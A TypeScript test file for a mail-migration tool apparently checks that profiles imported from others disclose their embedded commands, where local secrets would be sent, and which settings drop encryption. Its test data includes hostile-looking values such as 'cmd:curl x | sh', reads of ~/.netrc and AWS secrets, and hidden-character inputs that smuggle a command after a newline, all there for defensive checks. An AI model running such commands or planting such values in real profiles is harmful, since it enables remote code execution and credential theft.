// What is told of a profile from elsewhere before it is taken: the commands in it, what it would send away, and how.
import {describe, expect, it} from 'vitest';
import {type ProfileInput, profileSchema} from '../../source/profiles/profile.ts';
import {commandsIn, readShared, sentBy, sharedText, weakens} from '../../source/profiles/shared-profile.ts';

const told = (profile: ProfileInput) => {
  const parsed = profileSchema.parse(profile);
  return {commands: commandsIn(parsed), sent: sentBy(parsed)};
};

const nothing = {commands: [], sent: []};

const john = {
  ...{type: 'O365-IMAP', sourceUserId: 'john', sourceDomain: 'baya.com'},
  ...{destinationUserId: 'john', destinationServer: 'imap.example.com'},
};

describe('of a saved request', () => {
  const request = (answers: object, set: readonly string[] = [], options: object = {}) =>
    told({kind: 'request', answers: {...john, ...answers}, options: {...options, set: [...set]}});

  it('every command is told, wherever it stands', () => {
    expect(
      request(
        {sourceSecret: 'cmd:pass show john'},
        ['Destination user password= cmd:curl x | sh', 'dest_password=cmd:true', 'Title=cmd:only a title'],
        {notify: 'mail me'},
      ),
    ).toEqual({
      commands: [
        'cmd:pass show john',
        '--set Destination user password= cmd:curl x | sh',
        '--set dest_password=cmd:true',
        '--notify mail me',
      ],
      sent: [],
    });
  });

  it.each(['file:~/.netrc', 'env:AWS_SECRET', 'keychain:work'])(
    'a password from this machine (%s) is told with the server it goes to',
    secret => {
      const sent = [`${secret} to imap.example.com`];
      expect(request({destinationSecret: secret})).toEqual({...nothing, sent});
      expect(request({}, [`Destination user password=${secret}`])).toEqual({...nothing, sent});
      expect(request({sourceSecret: secret}).sent).toEqual([`${secret} to outlook.office365.com`]);
    },
  );

  it('a server that counts where the answers name none is the one that is told', () => {
    expect(
      request({sourceSecret: 'env:PW'}, ['Source Server=one.example', 'Source Server=two.example']).sent,
    ).toEqual(['env:PW to two.example']);
    expect(request({destinationServer: '', destinationSecret: 'env:PW'}).sent).toEqual([
      'env:PW to the destination server',
    ]);
  });

  it('a sign-in at Microsoft is told where its token goes to another server', () => {
    const auth = {sourceAuth: 'OAuth-browser'};
    expect(request({...auth, sourceServer: 'gateway.example'}).sent).toEqual([
      'a sign-in at Microsoft to gateway.example',
    ]);
    expect([request(auth), request({...auth, sourceServer: 'outlook.office365.us'})]).toEqual([
      nothing,
      nothing,
    ]);
  });

  it('nothing is told where passwords are asked for', () => {
    expect(request({sourceSecret: 'hunter2'}, ['Since=2019-01-01', 'no field'])).toEqual(nothing);
  });
});

describe('of a CSV', () => {
  const csv = (...set: readonly string[]) =>
    told({kind: 'csv', path: '/users.csv', options: {set: [...set]}});

  it('what is given for all its rows is told', () => {
    expect(csv('Source user password=cmd:id', 'destination_password=file:/etc/hostname')).toEqual({
      commands: ['--set Source user password=cmd:id'],
      sent: ['file:/etc/hostname to the destination servers in its CSV'],
    });
  });

  it('a server for its rows is told: the passwords in it were not written for that one', () => {
    expect(csv('source_server=imap.example.com').sent).toEqual([
      'the source passwords in its CSV to imap.example.com',
    ]);
  });

  it('nothing is told of one that names neither', () => {
    expect(csv('Since=2019-01-01')).toEqual(nothing);
  });
});

it('what lets others on the line read along is told', () => {
  const parsed = (profile: ProfileInput) => weakens(profileSchema.parse(profile));
  const options = {allowPlaintext: true, ca: '/tmp/ca.pem', set: ['Source security=none']};
  expect(parsed({kind: 'csv', path: '/users.csv', options})).toEqual([
    '--allow-plaintext',
    '--ca /tmp/ca.pem',
    'no encryption to the source server',
  ]);
  expect(parsed({kind: 'request', answers: {...john, destinationSecurity: 'None'}, options: {}})).toEqual([
    'no encryption to the destination server',
  ]);
  expect(parsed({kind: 'request', answers: john, options: {}})).toEqual([]);
});

it.each(['\u001b]0;x\u0007', 'true # see\ncurl x | sh', 'a\u2028b', '\u0000'])(
  'one with characters that nobody sees (%j) is not taken: what is told would not be what runs',
  hidden => {
    for (const profile of [
      {kind: 'request', answers: {...john, sourceSecret: `cmd:${hidden}`}, options: {}},
      {kind: 'csv', path: '/users.csv', options: {notify: hidden}},
      {kind: 'csv', path: '/users.csv', options: {set: [`Source user password=cmd:${hidden}`]}},
    ] as const) {
      const text = sharedText({name: 'team', profile: profileSchema.parse(profile)});
      expect(() => readShared(text, 'team.json')).toThrow('holds characters that nobody sees');
    }
  },
);
